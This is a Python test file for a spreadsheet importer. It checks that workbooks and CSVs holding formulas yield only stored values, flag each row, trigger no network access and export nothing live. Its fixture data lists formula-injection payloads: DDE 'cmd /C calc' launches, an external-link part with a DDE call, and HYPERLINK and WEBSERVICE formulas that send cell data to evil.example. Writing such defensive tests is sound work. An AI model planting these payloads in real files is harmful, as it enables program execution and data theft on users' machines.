"""B07: a workbook that wants to calculate, to fetch and to start programs gives its values, says so, and nothing else happens."""

import io
import re
import socket
import zipfile

import openpyxl
import pytest
from django.utils import translation

from hall.core.sheets import Kind, marked_workbook, read_table

FORMULAS = (
    "=1+1", '=HYPERLINK("http://evil.example/?"&A2,"点此")', "=cmd|'/C calc'!A0", "='http://evil.example/[x.xlsx]Sheet1'!A1", "=[1]Sheet1!A1",
    '=WEBSERVICE("http://evil.example/"&A2)', '=IMPORTXML("http://evil.example","//a")', "=DDE(\"cmd\",\"/C calc\",\"\")", "=-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
LINK = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'


def workbook() -> bytes:
    """Names beside formulas with their stored results, a hyperlink cell, and an external link with a DDE call."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "工号"])
    for number, formula in enumerate(FORMULAS):
        sheet.append([f"人{number}", formula])
    sheet["A2"].hyperlink = "http://evil.example/"
    plain, made = io.BytesIO(), io.BytesIO()
    book.save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            body = old.read(name)
            if name == "xl/worksheets/sheet1.xml":
                body = re.sub(rb"</f><v ?/>|</f><v></v>", b"</f><v>42</v>", body)
            new.writestr(name, body)
        new.writestr("xl/externalLinks/externalLink1.xml", LINK)
    return made.getvalue()


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_words: object, **_more: object) -> None:
        raise AssertionError("something was fetched")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def test_values_only_each_row_flagged_and_nothing_fetched(no_network: None) -> None:
    with translation.override("en"):
        table = read_table(io.BytesIO(workbook()), "名册.xlsx")
    assert [row.texts[0] for row in table.rows] == [f"人{number}" for number in range(len(FORMULAS))]
    assert [row.formulas for row in table.rows] == [(1,)] * len(FORMULAS)
    assert {row.texts[1] for row in table.rows} <= {"42", ""}
    assert table.notes == (
        f"{len(FORMULAS)} rows contain formulas; only their last result was read. Please check these rows.",
    )


def test_the_same_in_a_csv_and_none_of_it_goes_back(no_network: None) -> None:
    lines = ["姓名,工号"] + [
        f'人{number},"{formula.replace(chr(34), chr(34) * 2)}"' for number, formula in enumerate(FORMULAS)
    ]
    table = read_table(io.BytesIO("\n".join(lines).encode()), "名册.csv")
    assert all(row.cells[1].kind is Kind.FORMULA for row in table.rows)
    for back in (table, read_table(io.BytesIO(workbook()), "x.xlsx")):
        data = marked_workbook(back, [])
        cells = [cell for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n"} and not any(cell.hyperlink for cell in cells)
        assert b"evil.example" not in b"".join(
            zipfile.ZipFile(io.BytesIO(data)).read(name)
            for name in zipfile.ZipFile(io.BytesIO(data)).namelist()
            if "rels" in name
        )
